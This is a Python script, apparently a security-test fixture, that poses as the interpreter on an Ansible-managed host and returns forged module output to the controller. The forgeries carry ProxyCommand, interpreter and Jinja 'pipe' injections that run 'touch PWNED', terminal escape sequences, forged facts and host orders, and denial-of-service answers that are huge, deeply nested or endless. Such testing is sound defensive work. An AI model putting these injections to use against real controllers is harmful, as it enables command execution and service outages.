#!/usr/bin/python3
"""Takes the place of Python on a host that lies. It runs what it is given, and answers something else.

The name of the host says how: liar-orders, -templates, -control, -numbers, -huge, -deep, -noise, -endless; or the file
HOW does, in which `drip` is an answer that goes on for ever, a letter a second.
"""

import json
import os
import subprocess
import sys
import time
from pathlib import Path

REAL = "/srv/python3.11"
SAYS = Path("/srv/how")
HOW = SAYS.read_text().strip() if SAYS.exists() else os.uname().nodename.partition("-")[2]
TOUCH = "touch PWNED"  # a path of the controller
PROXY = f"-o ProxyCommand='{TOUCH}'"
CONTROL = "\x1b]52;c;liar\x07\x1b]0;liar\x07\x1b[2J\r\x9b31m\u202eliar\u200b\x00"
TEMPLATE = "{{ lookup('ansible.builtin.pipe', '" + TOUCH + "') }}"
# Ansible shows the words of such a mark to whoever reads the value.
MARK = {"__ansible_type": "Deprecated", "msg": CONTROL, "version": "9"}
MARKED = {int: "_AnsibleTaggedInt", float: "_AnsibleTaggedFloat"}
ORDERS = {
    "add_host": {"host_name": "evil", "groups": ["trainers"], "host_vars": {"ansible_ssh_common_args": PROXY}},
    "add_group": "trainers",
    "ansible_facts": {
        "ansible_ssh_common_args": PROXY,
        "ansible_connection": "local",
        "ansible_python_interpreter": f"{TOUCH};",
        "discovered_interpreter_python": f"/bin/sh -c '{TOUCH}'",
        "groups": {"trainers": ["evil"]},
        "fleet_root": TEMPLATE,
    },
    "_ansible_delegated_vars": {"neighbour": {"ansible_host": "127.0.0.1"}},
    "_ansible_no_log": False,
    "exception": f"Traceback {CONTROL}",
    "warnings": [CONTROL, TEMPLATE],
    "deprecations": [{"msg": CONTROL, "version": "9"}],
    "diff": {"before": CONTROL, "after": TEMPLATE},
    "invocation": {"module_args": {"x": TEMPLATE}},
    "msg": f"{CONTROL}{TEMPLATE}",
    "settings": {"training_run": "neighbour", "fleet_plan_format": "json"},
    "findings": [{"code": CONTROL, "severity": "error", "host": "neighbour"}],
    "asked": [0, 1e300],
}


def leaves(value, change):
    """The value with each of its texts and numbers replaced."""
    if isinstance(value, dict):
        return {key: leaves(one, change) for key, one in value.items()}
    if isinstance(value, list):
        return [leaves(one, change) for one in value]
    return change(value)


def marked(value):
    kind = MARKED.get(type(value))
    return {"__ansible_type": kind, "value": value, "tags": [MARK]} if kind else value


def lie(true: dict) -> str:
    if HOW == "orders":
        return json.dumps({**true, **ORDERS})
    if HOW == "templates":
        return json.dumps(leaves(true, lambda one: TEMPLATE if isinstance(one, str) else marked(one)))
    if HOW == "control":
        return json.dumps(leaves(true, lambda one: f"{one}{CONTROL}" if isinstance(one, str) else one))
    if HOW == "numbers":
        numbers = {int: -(10**400), float: float("nan")}
        return json.dumps(leaves(true, lambda one: numbers.get(type(one), one)))
    if HOW == "huge":
        return json.dumps({**true, "msg": "x" * (1 << 24), "observation": {**true, "roles": ["x"] * (1 << 20)}})
    if HOW == "deep":
        return '{"observation":' * 100_000 + "1" + "}" * 100_000
    if HOW in ("endless", "drip"):
        go_on()
    return f"{CONTROL}\n{json.dumps(ORDERS)}\n{CONTROL}"


def go_on() -> None:
    """An answer that does not end; with the connection it does."""
    letters, pause = (" ", 1) if HOW == "drip" else ("x" * (1 << 20), 0)
    sys.stdout.write('{"msg": "')
    while True:
        sys.stdout.write(letters)
        sys.stdout.flush()
        time.sleep(pause)


def main() -> int:
    done = subprocess.run([REAL, *sys.argv[1:]], capture_output=True)
    try:
        true = json.loads(done.stdout)
    except ValueError:  # no module's answer
        sys.stdout.buffer.write(done.stdout)
        sys.stderr.buffer.write(done.stderr)
        return done.returncode
    sys.stdout.write(lie(true))
    return done.returncode


if __name__ == "__main__":
    sys.exit(main())
